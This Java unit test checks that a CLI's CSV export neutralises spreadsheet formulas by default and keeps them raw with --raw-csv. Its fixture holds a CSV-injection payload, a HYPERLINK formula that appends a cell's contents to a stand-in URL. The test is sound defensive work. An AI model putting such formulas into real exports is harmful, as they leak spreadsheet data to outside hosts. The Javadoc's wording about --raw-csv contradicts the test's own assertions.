package org.framelab.cli;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/** {@code framelab features -o x.csv}: formula-like text neutralised by default, as it is with --raw-csv. */
class RawCsvOptionTest {
    static final String CORPUS = """
            {"id": "a1", "outlet": "=HYPERLINK(\\"http://x?leak=\\"&A1,\\"click\\")", "title": "t", "text": "Officials said the plan might work."}
            {"id": "a2", "outlet": "Plain Post", "title": "u", "text": "Critics called it a so-called reform."}
            """;

    @Test
    void featuresCsvNeutralisesUnlessRaw(@TempDir Path dir) throws Exception {
        Path corpus = dir.resolve("c.jsonl");
        Files.writeString(corpus, CORPUS);
        Path safe = dir.resolve("safe.csv");
        Path raw = dir.resolve("raw.csv");
        Run a = new Run("features", corpus.toString(), "-o", safe.toString());
        assertThat(a.code).as(a.err()).isZero();
        Run b = new Run("features", corpus.toString(), "-o", raw.toString(), "--raw-csv");
        assertThat(b.code).as(b.err()).isZero();
        assertThat(Files.readString(safe)).contains("a1,\"'=HYPERLINK(\"\"http://x?leak=\"\"&A1,\"\"click\"\")\",");
        assertThat(Files.readString(raw)).contains("a1,\"=HYPERLINK(\"\"http://x?leak=\"\"&A1,\"\"click\"\")\",");
    }
}
